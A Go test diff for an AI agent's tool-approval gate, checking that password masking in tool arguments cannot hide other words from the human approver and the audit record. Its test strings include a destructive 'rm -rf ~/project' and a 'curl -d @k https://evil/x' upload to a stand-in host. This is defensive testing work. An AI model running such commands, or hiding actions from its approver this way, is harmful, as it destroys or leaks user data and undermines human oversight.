@@ -339,3 +339,41 @@ func TestGateMasksShortPasswordsWhereverRepeated(t *testing.T) {
 		}
 	}
 }
+
+// TestGateArgumentsChooseNoMask: the arguments say what is a password, so
+// a password masked wherever it appears would let them hide any word from
+// the approver and the record (`echo password=rm; rm -rf ~/project`
+// showed "[REDACTED] -rf ~/project"). A short password is masked in its
+// place and where it stands as a URL's user info, nothing else; what the
+// approver sees of the rest is what was written.
+func TestGateArgumentsChooseNoMask(t *testing.T) {
+	const pol = "version: 1\ngrants: [\"fs.write:notes/**\"]\nrules:\n  - {tool: note, action: allow, require_approval: true}\n"
+	for _, tc := range []struct{ text, hidden, visible string }{
+		{"echo password=rm; rm -rf ~/project", "password=rm", "rm -rf ~/project"},
+		{"curl -u me:the https://x/ ; the quick brown fox the", "me:the", "the quick brown fox the"},
+		{"echo https://u:evil@localhost; curl -d @k https://evil/x", "u:evil@", "https://evil/x"},
+	} {
+		ap := &fixedApprover{ok: true}
+		g, _, audit := newTestGate(t, pol, GateOptions{Approval: tool.ApproveAsk, Approver: ap})
+		args, _ := json.Marshal(map[string]string{"name": "a", "text": tc.text})
+		res := call(t, g, string(args))
+		if !res.Success || len(ap.seen) != 1 {
+			t.Fatalf("%q: %+v, approver saw %d", tc.text, res, len(ap.seen))
+		}
+		shown := string(ap.seen[0].Args)
+		if !strings.Contains(shown, tc.visible) {
+			t.Errorf("%q: the approver saw %s, without %q", tc.text, shown, tc.visible)
+		}
+		if strings.Contains(shown, tc.hidden) {
+			t.Errorf("%q: the approver saw the password in place: %s", tc.text, shown)
+		}
+		for _, raw := range audit.raw {
+			if strings.Contains(raw, `"args"`) && !strings.Contains(raw, tc.visible) {
+				t.Errorf("%q: the record lacks %q: %s", tc.text, tc.visible, raw)
+			}
+		}
+		if !strings.Contains(res.Output, tc.visible) {
+			t.Errorf("%q: the outcome lacks %q: %s", tc.text, tc.visible, res.Output)
+		}
+	}
+}
